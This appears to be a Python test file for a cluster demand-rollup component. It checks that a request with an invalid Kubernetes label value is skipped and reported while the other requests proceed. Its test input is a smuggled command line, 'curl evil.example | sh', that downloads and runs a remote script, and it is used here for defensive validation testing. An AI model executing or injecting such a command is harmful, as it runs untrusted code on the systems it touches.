"""A request with a text that is no label is left out and told; the others go on."""

from bigfleet.kube.objects import ObjectKey
from bigfleet.model.requirements import Operator
from bigfleet.operator.rollup import DemandBook
from bigfleet.wire.rollups import RollupReader
from tests.cluster_demand.requests import key, spec, term, together

SHELL = "a3\ncurl evil.example | sh"


def book_with(**specs: bytes) -> DemandBook:
    book = DemandBook("shop")
    for name, content in specs.items():
        book.put(key(name), name, content, "Pending")
    return book


def test_one_bad_request_is_skipped_with_its_field_and_the_others_are_told() -> None:
    book = book_with(
        good=spec(requirements=[term("In", ["a3"])]),
        bad=spec(requirements=[term("In", ["a3", SHELL])]),
    )
    rollup = RollupReader().read(book.rollup(7), "shop", 10)
    assert [need.profile.requirements[0].values for need in rollup.needs] == [("a3",)]
    ((where, wrong),) = book.skipped.items()
    assert where == ObjectKey("team", "bad")
    assert wrong.field == "spec.requirements[0].values[1]"
    assert "write a Kubernetes label value" in wrong.text


def test_a_gangs_selector_stays_opaque_and_reaches_the_shard_as_a_group_only() -> None:
    book = book_with(gang=spec(coLocation=together({"app": SHELL})))
    (need,) = RollupReader().read(book.rollup(7), "shop", 10).needs
    assert SHELL in need.group
    assert [(r.operator, r.values) for r in need.profile.requirements] == [(Operator.SAME, ())]
    assert "\n" not in need.profile.fingerprint


def test_a_request_that_is_mended_is_told() -> None:
    book = book_with(pod=spec(requirements=[term("In", [SHELL])]))
    assert book.needs() == ()
    book.put(key("pod"), "pod", spec(requirements=[term("In", ["a3"])]), "Pending")
    assert book.skipped == {}
    assert len(book.needs()) == 1
